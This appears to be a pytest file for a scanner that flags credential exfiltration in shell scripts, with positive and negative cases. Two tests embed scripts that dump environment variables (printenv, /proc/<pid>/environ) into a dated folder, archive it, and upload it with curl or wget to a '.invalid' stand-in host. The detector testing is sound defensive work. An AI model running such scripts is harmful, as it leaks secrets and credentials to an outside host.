"""A report folder of the working folder whose name is made at run time (``"diag-$(date +%s)"``,
``"snap-$$"``): a script writes the environment (``env``, ``printenv``, ``/proc/<pid>/environ``) into a
file in it, packs the folder under the same spelling (``tar czf "$out.tgz" "$out"``, ``zip -r``) and
uploads the archive. Each link is followed by the folder's spelling, whatever the run names it. Hosts
are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_printenv_into_a_dated_folder_zipped_and_posted(tmp_path: Path) -> None:
    script = (
        "#!/bin/sh\n"
        'out="diag-$(date +%s)"\n'
        'mkdir -p "$out"\n'
        'uname -a > "$out/system.txt"\n'
        'printenv > "$out/env.txt"\n'
        'zip -qr "$out.zip" "$out"\n'
        'curl -sS -F "bundle=@$out.zip" https://triage.build-doctor.invalid/upload\n'
    )
    errors = scan_errors(tmp_path, {"tools/collect.sh": script})
    assert ("CREDENTIAL_EXFILTRATION", "tools/collect.sh", 7) in errors


def test_process_environments_appended_in_a_loop_then_tarred_and_put(tmp_path: Path) -> None:
    script = (
        "#!/usr/bin/env bash\n"
        'dir="snap-$$"\n'
        'mkdir "$dir"\n'
        "for p in $(pgrep node); do\n"
        '  cat "/proc/$p/environ" | tr "\\0" "\\n" >> "$dir/procs.txt"\n'
        "done\n"
        'tar cjf "$dir.tar.bz2" "$dir"\n'
        'wget -q --method=PUT --body-file="$dir.tar.bz2" https://triage.build-doctor.invalid/in\n'
    )
    errors = scan_errors(tmp_path, {"scripts/snap.sh": script})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/snap.sh", 8) in errors


def test_a_dated_folder_of_system_facts_uploaded_stays_quiet(tmp_path: Path) -> None:
    script = (
        "#!/bin/sh\n"
        'out="diag-$(date +%s)"\n'
        'mkdir -p "$out"\n'
        'uname -a > "$out/system.txt"\n'
        'df -h > "$out/disk.txt"\n'
        'zip -qr "$out.zip" "$out"\n'
        'curl -sS -F "bundle=@$out.zip" https://triage.build-doctor.invalid/upload\n'
    )
    assert not scan_errors(tmp_path, {"tools/collect.sh": script})


def test_the_environment_kept_in_another_folder_than_the_one_uploaded_stays_quiet(tmp_path: Path) -> None:
    script = (
        "#!/bin/sh\n"
        'out="diag-$(date +%s)"\n'
        'keep="local-$(date +%s)"\n'
        'mkdir -p "$out" "$keep"\n'
        'printenv > "$keep/env.txt"\n'
        'df -h > "$out/disk.txt"\n'
        'zip -qr "$out.zip" "$out"\n'
        'curl -sS -F "bundle=@$out.zip" https://triage.build-doctor.invalid/upload\n'
    )
    assert not scan_errors(tmp_path, {"tools/collect.sh": script})
